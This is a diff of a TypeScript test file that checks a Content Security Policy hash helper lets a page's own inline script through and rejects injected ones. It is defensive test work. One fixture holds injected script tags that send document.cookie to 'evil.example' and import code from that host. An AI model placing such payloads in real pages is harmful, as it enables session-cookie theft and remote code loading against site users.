@@ -4,7 +4,8 @@ import { allowedScriptHashes, cspScriptHashes, knownScriptHashes } from "./csp.s
 
 const hashOf = (script: string) => `'sha256-${createHash("sha256").update(script, "utf8").digest("base64")}'`;
 const legit = "(function(){try{var p=location.pathname}catch(e){}})();";
-const page = (body: string) => `<!doctype html><html><head><script>${legit}</script><script type="application/ld+json">{"a":1}</script></head><body>${body}</body></html>`;
+const page = (body: string) =>
+  `<!doctype html><html><head><script>${legit}</script><script type="application/ld+json">{"a":1}</script></head><body>${body}</body></html>`;
 
 describe("inline scripts a rendered page's CSP may allow", () => {
   const known = knownScriptHashes([{ scriptHashes: cspScriptHashes(page("")) }, { scriptHashes: undefined }]);
@@ -14,7 +15,9 @@ describe("inline scripts a rendered page's CSP may allow", () => {
   });
 
   it("allows the app's own script and nothing that was injected into the markup", () => {
-    const injected = page(`<p>x</p><script>fetch("https://evil.example/?c="+document.cookie)</script><script type="module">import("//evil.example/x.js")</script>`);
+    const injected = page(
+      `<p>x</p><script>fetch("https://evil.example/?c="+document.cookie)</script><script type="module">import("//evil.example/x.js")</script>`,
+    );
     expect(cspScriptHashes(injected)).toHaveLength(3);
     expect(allowedScriptHashes(injected, known)).toEqual({ hashes: [hashOf(legit)], unknown: 2 });
   });
